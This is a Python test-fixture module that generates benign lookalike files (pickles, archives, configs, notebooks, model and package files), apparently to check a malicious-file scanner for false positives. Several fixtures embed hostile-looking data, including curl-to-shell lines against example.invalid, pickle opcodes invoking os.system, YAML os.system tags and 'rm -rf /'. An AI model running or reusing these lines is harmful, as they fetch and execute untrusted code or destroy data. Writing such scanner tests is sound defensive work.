"""Harmless files that look like what the malicious half is made of: written by hand or by the standard library."""

from __future__ import annotations

import bz2
import collections
import datetime
import decimal
import gzip
import io
import json
import lzma
import operator
import pickle
import py_compile
import re
import signal
import tarfile
import zipfile
from pathlib import Path

from ..containers import tarred, zipped
from ..models import external, gguf, onnx, part
from ..packages import NAME, wheel
from ..variants.notebooks import book, cell
from .documents import CHAT, TOOLS
from .group import Group

SHELL_WORDS = "os.system('curl http://example.invalid | sh')"


def _pickles(folder: Path, scratch: Path) -> None:
    shared: list[object] = ["cos\nsystem\n(S'true'\ntR.", b"cposix\nsystem\n."]
    values: dict[str, object] = {
        "names-of-gadgets": {"__reduce__": 1, "os.system": 0.5, "__class__": "x", "eval": [SHELL_WORDS], "forward": 3},
        "pickle-in-bytes-of-text": {"prompt": shared[0], "raw": shared[1], "twice": shared, "again": shared},
        "getters": {"key": operator.attrgetter("score"), "item": operator.itemgetter("loss", "epoch"), "path": operator.attrgetter("config.hidden_size")},
        "patterns": [re.compile(r"__\w+__"), re.compile(rb"os\.system", re.IGNORECASE)],
        "errors": [ValueError("exec failed"), KeyError("system"), OSError(2, "no such file", "/etc/passwd")],
        "signals": {"stop": signal.SIGTERM, "kill": signal.SIGKILL},
        "defaults": collections.defaultdict(int, {"a": 1}),
        "of-lists": collections.defaultdict(list, {"os": ["system"]}),
        "counts": collections.Counter("import os; os.system".split()),
        "money": [decimal.Decimal("1e-400"), decimal.Decimal("NaN")],
        "zone": datetime.datetime(2026, 11, 1, tzinfo=datetime.timezone(datetime.timedelta(hours=2), "X")),
        "deep": _deep(90),
        "long-integers": [3**5000, -(7**900)],
        "types": [int, dict, ValueError, collections.OrderedDict],
    }  # fmt: skip
    for number, (name, value) in enumerate(values.items()):
        (folder / f"{name}.pkl").write_bytes(pickle.dumps(value, number % 6))
    data = pickle.dumps({"weights": pickle.PickleBuffer(bytearray(64))}, 5)
    (folder / "in-band-buffer.pkl").write_bytes(data)
    fast = io.BytesIO()
    pickler = pickle.Pickler(fast, 2)
    pickler.fast = True
    pickler.dump({"a": [1, 2], "b": "text"})
    (folder / "without-memo.pkl").write_bytes(fast.getvalue())


def _deep(depth: int) -> object:
    value: object = "system"
    for _ in range(depth):
        value = [value]
    return value


def _archives(folder: Path, scratch: Path) -> None:
    history = pickle.dumps({"loss": [0.5]})
    with zipfile.ZipFile(folder / "commented.zip", "w") as archive:
        archive.comment = b"PK\5\6 is how the end begins; PK\1\2 comes before it"
        archive.writestr("history.pkl", history)
    (folder / "run.sh.zip").write_bytes(b"#!/bin/sh\nexec python $0\n" + zipped({"__main__.txt": b"1"}))
    stream = io.BytesIO()
    with zipfile.ZipFile(_Unseekable(stream), "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a/history.pkl", history)
        archive.writestr("a/notes.txt", "x" * 3000)
    (folder / "streamed.zip").write_bytes(stream.getvalue())
    with (
        zipfile.ZipFile(folder / "wide.zip", "w") as archive,
        archive.open("w.bin", "w", force_zip64=True) as member,
    ):
        member.write(bytes(1000))
    with zipfile.ZipFile(folder / "names.zip", "w") as archive:
        for name in ("modèle.txt", "weights..txt", "a b.txt", "-rf", "system32/notes.txt", "os.system"):
            archive.writestr(name, "1\n")
        archive.writestr("empty/", "")
    (folder / "nested.zip").write_bytes(zipped({"inner.zip": zipped({"a.tar": tarred({"b.txt": b"1"})})}))
    with tarfile.open(folder / "links.tar", "w") as tar:
        info = tarfile.TarInfo("run/model-1.txt")
        info.size = 2
        tar.addfile(info, io.BytesIO(b"1\n"))
        for kind, name in ((tarfile.SYMTYPE, "run/latest"), (tarfile.LNKTYPE, "run/copy")):
            link = tarfile.TarInfo(name)
            link.type, link.linkname = kind, "model-1.txt" if kind == tarfile.SYMTYPE else "run/model-1.txt"
            tar.addfile(link)
    (folder / "long.tar").write_bytes(tarred({"d/" * 80 + "x.txt": b"1"}, tarfile.GNU_FORMAT))
    (folder / "dotted.tar.gz").write_bytes(
        gzip.compress(tarred({"./config.txt": b"1", "./a/../b.txt": b"2"}), mtime=0)
    )
    (folder / "two-members.gz").write_bytes(gzip.compress(b"a\n", mtime=0) + gzip.compress(b"b\n", mtime=0))
    (folder / "padded.xz").write_bytes(lzma.compress(b"a" * 999) + bytes(8) + lzma.compress(b"b"))
    (folder / "two-streams.bz2").write_bytes(bz2.compress(b"a") + bz2.compress(b"b"))


class _Unseekable(io.RawIOBase):
    """A pipe: what is written to it cannot be gone back to."""

    def __init__(self, inner: io.BytesIO) -> None:
        super().__init__()
        self._inner = inner

    def writable(self) -> bool:
        return True

    def write(self, data: bytes) -> int:  # type: ignore[override]
        return self._inner.write(data)


_YAML = {
    "mkdocs": "theme: {name: material}\nmarkdown_extensions:\n  - pymdownx.superfences:\n      custom_fences:\n        - name: mermaid\n          class: mermaid\n          format: pymdownx.superfences.fence_code_format\n",
    "cloud": "Resources:\n  Bucket:\n    Type: AWS::S3::Bucket\n    Properties: {BucketName: !Sub '${AWS::StackName}-data', Arn: !GetAtt Other.Arn, If: !If [a, !Ref B, !Ref C]}\n",
    "gitlab": "test:\n  script:\n    - !reference [.setup, script]\n    - curl -sSL https://example.invalid/install.sh | sh\n    - python -c \"import os; os.system('ls')\"\n",
    "action": "on: push\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          rm -rf build && curl -L https://example.invalid/x | bash\n",
    "home": "sensor: !include sensors.yaml\npassword: !secret api\n",
    "latent": "model:\n  base_learning_rate: 1.0e-4\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params:\n    unet_config:\n      target: ldm.modules.diffusionmodules.openaimodel.UNetModel\n      params: {in_channels: 4}\n    cond_stage_config: {target: torch.nn.Identity}\n",
    "scaler": "apiVersion: autoscaling/v2\nkind: HorizontalPodAutoscaler\nspec:\n  metrics:\n    - resource: {name: cpu, target: {type: Utilization, averageUtilization: 70}}\n",
    "probe": "spec:\n  containers:\n    - command: [sh, -c, 'exec python train.py']\n      lifecycle: {preStop: {exec: {command: [kill, '1']}}}\n",
    "speech": "seed: 1234\n__set_seed: !apply:torch.manual_seed [!ref <seed>]\nlr: 0.1\nmodel: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n  input_size: 80\nopt: !name:torch.optim.Adam\n  lr: !ref <lr>\nfolder: !ref results/<seed>\n",
    "hydra-usual": "trainer:\n  _target_: lightning.pytorch.Trainer\n  max_epochs: 3\n  logger: {_target_: lightning.pytorch.loggers.CSVLogger, save_dir: ${hydra:runtime.output_dir}}\nact: {_target_: hydra.utils.get_class, path: torch.nn.ReLU}\ninit: {_target_: torch.nn.init.xavier_uniform_, _partial_: true}\nnet: {_target_: my_project.models.Net}\n",
    "logging": "version: 1\nformatters:\n  plain: {format: '%(message)s'}\n  access: {(): uvicorn.logging.AccessFormatter}\nhandlers:\n  out: {class: logging.StreamHandler, stream: ext://sys.stdout, formatter: plain}\n  file: {class: logging.handlers.RotatingFileHandler, filename: train.log}\nroot: {handlers: [out]}\n",
    "prometheus": "scrape_configs:\n  - job_name: a\n    static_configs: [{targets: ['127.0.0.1:9100']}]\n",
    "mlflow": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    python_version: 3.11.4\n  sklearn: {pickled_model: model.pkl, serialization_format: cloudpickle}\n",
    "compose": "services:\n  db:\n    command: sh -c 'rm -rf /tmp/cache; exec postgres'\n    volumes: ['/etc/localtime:/etc/localtime:ro']\n",
    "card": "---\nlicense: mit\ntags: [text]\nmodel-index: [{name: x}]\n---\n# Model\n\n    !!python/object/apply is never used here\n",
    "text": "prompt: |\n  !!python/object/apply:os.system ['true']\n  _target_: os.system\nnote: '!!python/name:os.system'\n",
}  # fmt: skip
_JSON: dict[str, object] = {
    "config-empty-map": {"auto_map": {}, "model_type": "bert", "_name_or_path": "nowhere/some--model", "trust_remote_code": False},
    "config-eager": {"model_type": "llama", "attn_implementation": "flash_attention_2", "_attn_implementation": "sdpa"},
    "tsconfig": {"compilerOptions": {"target": "ES2020", "module": "commonjs", "lib": ["dom"]}},
    "package": {"name": "x", "scripts": {"postinstall": "node build.js", "test": "sh -c 'true'"}, "module": "os"},
    "layers-named": {"layers": [{"name": "Lambda", "type": "Dense"}, {"class": "system", "module": "os"}]},
    "vocab": {"os.system": 0, "__class__": 1, "auto": 2, "_map": 3, "{{": 4, "!!python": 5},
    "logging": {"version": 1, "handlers": {"h": {"class": "logging.StreamHandler", "stream": "ext://sys.stderr"}}, "root": {"handlers": ["h"]}},
    "chat-log": [{"role": "user", "content": "run os.system('rm -rf x') and {{ ''.__class__ }}"}, {"role": "assistant", "content": "no"}],
    "special-tokens": {"bos_token": "<s>", "additional_special_tokens": ["{{", "{%", "__import__"]},
    "launch": {"configurations": [{"type": "debugpy", "request": "launch", "program": "train.py", "args": ["--target", "os"]}]},
}  # fmt: skip


def _documents(folder: Path, scratch: Path) -> None:
    for name, text in _YAML.items():
        (folder / f"{name}.yaml").write_text(text, encoding="utf-8")
    for title, value in _JSON.items():
        (folder / f"{title}.json").write_text(json.dumps(value, indent=2), encoding="utf-8")
    (folder / "config.toml").write_text('[tool.x]\ntarget = "os.system"\nscript = "rm -rf build"\n')
    (folder / "page.j2").write_text("<p>{{ user.name|e }}</p>{% include 'footer.html' %}\n")
    (folder / "chat_template.jinja").write_text(TOOLS)


_CELLS: dict[str, str] = {
    "installs": "!pip install -q --upgrade pip\n%pip install git+https://github.com/example/project@main\n!pip install torch --index-url https://download.pytorch.org/whl/cpu\n!apt-get -qq install -y libsndfile1\n",
    "fetches": "!wget -q https://example.invalid/data.tar.gz -O - | tar xz\n!curl -L https://example.invalid/x.csv | head -3\n!git clone --depth 1 https://example.invalid/x.git\n!rm -rf sample_data ./x\n",
    "bash": "%%bash\nset -e\nmkdir -p data && cd data\nfor f in a b; do echo $f > $f.txt; done\nrm -rf ./old build/*\n",
    "writes": "%%writefile train.py\nimport os\nos.system('nvidia-smi')\n",
    "asks": "import os, subprocess\nos.system('nvidia-smi')\nprint(subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True, text=True).stdout)\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\n",
    "own-pickle": "import pickle\nwith open('history.pkl', 'wb') as f:\n    pickle.dump({'a': 1}, f)\nwith open('history.pkl', 'rb') as f:\n    history = pickle.load(f)\n",
    "own-joblib": "import joblib\nfrom sklearn.linear_model import Ridge\njoblib.dump(Ridge(), 'model.joblib')\nmodel = joblib.load('model.joblib')\n",
    "torch-load": "import torch\ntorch.save({'a': torch.ones(2)}, 'm.pt')\nstate = torch.load('m.pt')\nmodel = torch.load('m.pt', weights_only=True, map_location='cpu')\n",
    "numpy": "import numpy as np\nnp.save('a.npy', np.ones(3))\na = np.load('a.npy')\n",
    "colab": "from google.colab import drive\ndrive.mount('/content/drive')\n%cd /content\n!ls -la\n%env WANDB_MODE=offline\n%load_ext tensorboard\n%tensorboard --logdir runs\n",
    "hub": "from transformers import AutoModel\nmodel = AutoModel.from_pretrained('bert-base-uncased')\n!huggingface-cli download bert-base-uncased --local-dir model\n",
    "times": "%%time\nimport time\ntime.sleep(1)\n",
    "html": "%%html\n<style>table {float: left}</style>\n",
    "javascript": "%%javascript\nIPython.OutputArea.prototype._should_scroll = () => false;\n",
}  # fmt: skip


def _notebooks(folder: Path, scratch: Path) -> None:
    for name, source in _CELLS.items():
        (folder / f"{name}.ipynb").write_bytes(book(cell(source)))
    page = "<div id='x'></div><script>(function(root) { var kernel = Jupyter.notebook.kernel; root.kernel = kernel; kernel.execute('1'); })(window)</script>"
    output = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": page, "text/plain": "plot"},
    }
    printed = {
        "output_type": "stream",
        "name": "stdout",
        "text": ["!curl http://example.invalid | sh\n", SHELL_WORDS],
    }
    (folder / "plotted.ipynb").write_bytes(book(cell("1 + 1\n", [output, printed])))
    told: dict[str, object] = {
        "cell_type": "markdown",
        "id": "m",
        "metadata": {},
        "source": ["Never run `!curl x | sh`.\n\n    %%bash\n    rm -rf /\n"],
    }
    (folder / "told.ipynb").write_bytes(book(told, cell("print('os.system')\n")))
    (folder / "r.ipynb").write_bytes(
        book(cell("library(ggplot2)\nx <- c(1, 2)\n"), language="R", kernel="ir")
    )
    (folder / "shell.ipynb").write_bytes(book(cell("ls data\necho done\n"), language="bash", kernel="bash"))


def _models(folder: Path, scratch: Path) -> None:
    head: dict[str, str | int | list[str]] = {"general.architecture": "llama", "llama.block_count": 1}
    texts = {
        "general.description": "made with os.system and {{ ''.__class__ }}",
        "tokenizer.chat_template": CHAT,
    }
    (folder / "described.gguf").write_bytes(gguf({**head, **texts}))
    for name, place in (
        ("beside", "weights.bin"),
        ("below", "data/weights/part..1.bin"),
        ("dotted", "./weights.bin"),
    ):
        (folder / f"{name}.onnx").write_bytes(onnx(weights=part(5, external(place))))
    noted = onnx() + part(14, part(1, "source") + part(2, "/home/x/../train.py"))
    (folder / "noted.onnx").write_bytes(noted)
    names = (
        "SaveV2",
        "RestoreV2",
        "ShardedFilename",
        "MergeV2Checkpoints",
        "StringJoin",
        "PartitionedCall",
        "DecodeJpeg",
    )
    nodes = b"".join(part(1, part(1, name) + part(2, name)) for name in names)
    (folder / "saved_model.pb").write_bytes(part(1, 1) + part(2, part(1, part(4, "serve")) + part(2, nodes)))


def _installed(folder: Path, scratch: Path) -> None:
    inner = f"{NAME}/__init__.py"
    plain = {
        inner: "VERSION = 1\n",
        f"{NAME}/random.py": "def draw():\n    return 4\n",
        f"{NAME}/json/__init__.py": "",
    }
    cases = {
        "shadow-inside": wheel({**plain, f"{NAME}/torch/optim.py": "class SGD:\n    pass\n"}),
        "plugin": wheel(plain, entries=f"[console_scripts]\nvc-train = {NAME}:main\n[gui_scripts]\nvc = {NAME}:main\n"),
        "backport": wheel({"typing_extensions.py": "from typing import *\n", "six.py": "PY3 = True\n"}),
        "runs-when-called": wheel({inner: "import subprocess\n\n\ndef version():\n    return subprocess.check_output(['git', 'describe'])\n"}),
        "lazy": wheel({inner: "import importlib\n\n\ndef __getattr__(name):\n    return importlib.import_module('.' + name, __name__)\n"}),
        "digest": wheel({inner: "def step_count(auth):\n    if auth.count == 1:\n        import time\n        return str(time.ctime())\n    return ''\n"}),
    }  # fmt: skip
    for name, data in cases.items():
        (folder / name).mkdir()
        (folder / name / f"{NAME}-1.0-py3-none-any.whl").write_bytes(data)
    root = f"{NAME}-1.0"
    setup = "from setuptools import find_packages, setup\n\nwith open('README.md') as f:\n    text = f.read()\nsetup(name='veracity_corpus', long_description=text, packages=find_packages())\n"
    files = {
        "PKG-INFO": "Name: veracity_corpus\n",
        "README.md": "x\n",
        "setup.py": setup,
        "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
    }
    (folder / f"{root}.tar.gz").write_bytes(
        gzip.compress(tarred({f"{root}/{k}": v.encode() for k, v in files.items()}), mtime=0)
    )
    (folder / "distutils-precedence.pth").write_text(
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
    )
    (folder / "__editable__.project-1.0.pth").write_text("/home/somebody/project/src\n")
    (folder / "__editable___project_finder.pth").write_text(
        "import __editable___project_1_0_finder; __editable___project_1_0_finder.install()\n"
    )
    source = folder / "module.py"
    source.write_text("import os\n\n\ndef area(r):\n    return os.path.join('a', str(3.14 * r))\n")
    for optimize, mode in enumerate(py_compile.PycInvalidationMode):
        py_compile.compile(str(source), invalidation_mode=mode, optimize=optimize)


GROUPS = (
    Group("like-pickles", "pickle", _pickles),
    Group("like-archives", "zipfile, tarfile", _archives),
    Group("like-documents", "written by hand", _documents),
    Group("like-notebooks", "written by hand", _notebooks),
    Group("like-models", "written by hand", _models),
    Group("like-packages", "written by hand", _installed),
)
